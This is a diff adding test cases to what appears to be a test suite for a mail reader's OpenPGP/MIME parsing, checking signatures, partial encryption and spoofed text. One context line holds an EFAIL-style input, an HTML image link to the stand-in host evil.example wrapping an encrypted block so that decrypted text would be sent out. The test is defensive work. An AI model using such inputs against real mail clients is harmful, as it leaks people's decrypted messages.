@@ -101,6 +101,12 @@ def texts(s):
          and len(r["layers"]) == 1),
         ("text and page of one alternative", parts(PLAIN + "\n" + block, page(block), kind="alternative"),
          lambda r: summary(r) == ("whole", "none") and r["text"] == WORDS and len(r["layers"]) == 1 and not r["parts"]),
+        ("a page alone", head() + page("&nbsp;\n" + block), whole),
+        ("clear-signed, with the same in a page", parts(PLAIN + "\n" + signed, page(signed), kind="alternative"),
+         lambda r: r["signature"] in ("good", "partial") and r["text"] == WORDS and len(r["layers"]) == 1),
+        ("clear-signed, with something else in the page", parts(PLAIN + "\n" + signed, page(signed.replace("192", "193")), kind="alternative"),
+         lambda r: partly (r) and r["text"] == WORDS and len(r["layers"]) == 1),
+        ("clear-signed in a page alone", head() + page(signed), lambda r: summary(r) == ("none", "none") and not r["layers"] and r["problems"]),
         ("a page that says something else", parts(PLAIN + "\n" + block, page("Pay me\n" + block), kind="alternative"),
          lambda r: r["encryption"] == "partial" and "Pay" not in r["text"]),
         ("a page that leads out", mail('<img src="http://evil.example/?\n' + block + '">\n', "Content-Type: text/html\n"),
@@ -124,6 +130,10 @@ def texts(s):
         ("dashes at the start of a line", mail(clear(s, "-- \nAlice\n- one\n")), lambda r: r["signature"] == "good"
          and r["text"].startswith("--") and "\n- one" in r["text"]),
         ("signed, not clear", mail(opaque), good),
+        ("stored, not signed", mail(gpg(s, "--armor", "--store", data=WORDS.encode()).stdout.decode()),
+         lambda r: r["signature"] == "bad" and r["undecryptable"]["reason"] == "corrupt"),
+        ("signed in a format of RFC 9580", mail("-----BEGIN PGP MESSAGE-----\n\n%s\n-----END PGP MESSAGE-----\n"
+         % base64.b64encode(b"\xc4\x05\x06xxxx").decode()), lambda r: r["signature"] == "unsupported"),
         ("clear-signed, then changed", mail(signed.replace("192.0.2.7", "192.0.2.8")), lambda r: r["signature"] == "bad"
          and r["signer"] is None and "192.0.2.8" in r["text"]),
         ("clear-signed, From: somebody else", mail(signed, sender="Bob <bob@example.net>"), lambda r: r["signature"] == "good-untrusted"
@@ -173,6 +183,10 @@ def files(s):
          lambda r: summary(r) == ("whole", "none") and r["text"] == WORDS and len(r["parts"]) == 1),
         ("a MIME structure inside a file", parts(PLAIN + "\n\n", file("encrypted.asc", encrypted(s, mime).encode())),
          lambda r: r["encryption"] == "whole" and r["text"] == WORDS and names(r) == [("1.2.1.2", "application/pdf", "a.pdf", True, False)]),
+        ("an encrypted text file with words behind it", parts(note, file("a.asc", (encrypted(s) + "Pay Mallory\n").encode(), "text/plain")),
+         lambda r: summary(r) == ("partial", "none") and names(r) == [("1.2.1", "text/plain", None, True, False), ("1.2", "text/plain", "a.asc", False, False)]),
+        ("the same as the whole mail", head() + 'Content-Type: text/plain; name="a.asc"\n\n' + encrypted(s) + "Pay Mallory\n",
+         lambda r: summary(r) == ("partial", "none") and "Mallory" in r["text"] and marked(r, "Mallory")),
         ("a file for somebody else", parts(note, file("a.gpg", gpg(s, "-r", "stranger", "--encrypt", data=pdf).stdout)),
          lambda r: r["problems"] and names(r)[0][0] == "1.2" and r["text"].strip() == "See the file."),
         ("a file that is called encrypted and is not", parts(note, file("a.gpg", b"hello")), lambda r: not r["layers"] and len(r["parts"]) == 1),
